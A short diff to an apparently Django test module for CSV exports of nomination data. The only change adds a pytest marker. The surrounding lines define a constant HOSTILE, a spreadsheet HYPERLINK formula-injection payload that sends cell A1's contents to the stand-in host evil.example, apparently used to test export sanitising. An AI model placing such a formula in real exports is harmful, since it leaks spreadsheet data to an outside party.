@@ -11,7 +11,7 @@ from yhdyspinta.core.exports import csv_bytes, safe_text
 from yhdyspinta.nominations.models import NominationRound
 from yhdyspinta.nominations.services import NomineeRow, answer_save
 
-pytestmark = pytest.mark.django_db
+pytestmark = [pytest.mark.django_db, pytest.mark.pages]
 HOSTILE = '=HYPERLINK("http://evil.example/?"&A1;"klikkaa")'
 
 
